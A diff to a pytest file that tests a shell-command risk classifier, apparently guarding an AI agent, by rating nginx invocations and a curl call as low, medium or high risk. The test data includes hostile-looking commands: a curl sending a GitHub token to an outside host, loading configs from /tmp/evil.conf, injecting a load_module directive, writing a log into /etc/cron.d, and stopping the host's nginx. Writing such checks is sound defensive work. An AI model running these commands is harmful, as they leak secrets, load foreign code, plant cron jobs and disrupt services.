@@ -61,3 +61,25 @@ def test_secret_variables_are_recognised_by_name(ws: Path) -> None:
     assert assess_command('curl -H "x: $PORT" http://127.0.0.1/', ws).risk == L
     assert assess_command('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example/',
                           ws).risk == H
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    # a test of the installed config (/etc/nginx/) exits without serving: LOW
+    ("nginx -t", L), ("nginx -T", L), ("nginx -tq", L), ("nginx -t -c /etc/nginx/nginx.conf", L),
+    ("nginx -tc/etc/nginx/nginx.conf", L), ("nginx -t -e /dev/stderr", L), ("nginx -V", L),
+    # under -t nginx still runs load_module and creates the pid/log files the config names:
+    # a config the agent could have written, extra directives or another prefix is not LOW
+    ("nginx -t -c /tmp/evil.conf", M), ("nginx -t -c {W}/etc/nginx/nginx.conf", M),
+    ("nginx -t -c /etc/nginx/../../tmp/evil.conf", M), ("nginx -t -c nginx.conf", M),
+    ("nginx -t -c \"$CONF\"", M), ("nginx -t -g 'load_module /tmp/x.so;'", M),
+    ("nginx -t -p /tmp", M), ("nginx -t -c $PWD/etc/nginx/nginx.conf -p $PWD -e /dev/stderr", M),
+    ("nginx -t foo", M), ("nginx -t $X", M), ("nginx --help", M), ("sudo nginx -t", M),
+    ("nginx -t -e /etc/cron.d/x", H),
+    # without -t it serves; -s signals a running master (the host's, without a workspace -c)
+    ("nginx", M), ("nginx -g 'daemon off;'", M), ("nginx -c {W}/etc/nginx/nginx.conf -s reload", M),
+    ("nginx -s reload", H), ("nginx -s reopen", H), ("nginx -s stop", H), ("nginx -s quit", H),
+    ("nginx -t -s stop", H), ("nginx -c {W}/etc/nginx/nginx.conf -s stop", H),
+])
+def test_nginx(command: str, risk: Risk, ws: Path) -> None:
+    verdict = assess_command(command.replace("{W}", str(ws)), ws)
+    assert verdict.risk == risk, verdict.reasons
